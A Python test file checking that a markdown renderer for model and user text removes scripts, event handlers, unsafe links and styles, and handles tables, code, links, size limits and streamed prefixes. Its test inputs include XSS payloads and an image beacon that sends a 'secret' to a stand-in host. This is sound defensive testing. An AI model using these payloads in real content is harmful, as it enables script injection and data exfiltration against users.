"""Markdown of models and people is safe to show, whatever they write."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from playground.core.markdown import MARKDOWN_LIMIT, render_markdown


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[press](javascript:alert(1))",
        "[press](data:text/html;base64,PHNjcmlwdD4=)",
        "![pixel](https://elsewhere.example/collect?q=secret)",
        '<a href="https://x.example" style="position:fixed">x</a>',
        '```"onmouseover="alert(1)\ncode\n```',
        "```html\n</code></pre><script>alert(1)</script>\n```",
    ],
)
def test_it_runs_and_loads_nothing_when_the_text_is_hostile(hostile: str) -> None:
    html = str(render_markdown(hostile))

    tags = re.findall(r"<[^>]*>", html)
    assert not [tag for tag in tags if re.match(r"<(script|img|iframe|svg|style)", tag)]
    assert not [tag for tag in tags if re.search(r"\s(on\w+|style|src)=", tag)]
    assert not re.search(r'href="(javascript|data):', html)


def test_it_shows_tables_code_and_lists_when_the_text_has_them() -> None:
    text = "| a | b |\n| - | - |\n| 1 | 2 |\n\n- one\n- two\n\n```python\nx = 1\n```"

    html = str(render_markdown(text))

    assert '<div class="md-table"><table>' in html
    assert html.count("<li>") == 2
    assert "data-copy-code" in html
    assert '<span class="mi">1</span>' in html


def test_it_opens_links_elsewhere_without_telling_from_where() -> None:
    html = str(render_markdown("[docs](https://docs.example/a)"))

    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_it_shows_plain_text_when_there_is_too_much() -> None:
    html = str(render_markdown("<b>" + "x" * MARKDOWN_LIMIT))

    assert html.startswith("<pre><code>&lt;b&gt;")


@given(st.text(max_size=400), st.integers(min_value=0, max_value=400))
def test_it_renders_every_prefix_when_an_answer_is_still_streaming(text: str, cut: int) -> None:
    html = str(render_markdown(text[:cut]))

    assert "<script" not in html
    assert html.count("<pre") == html.count("</pre>")
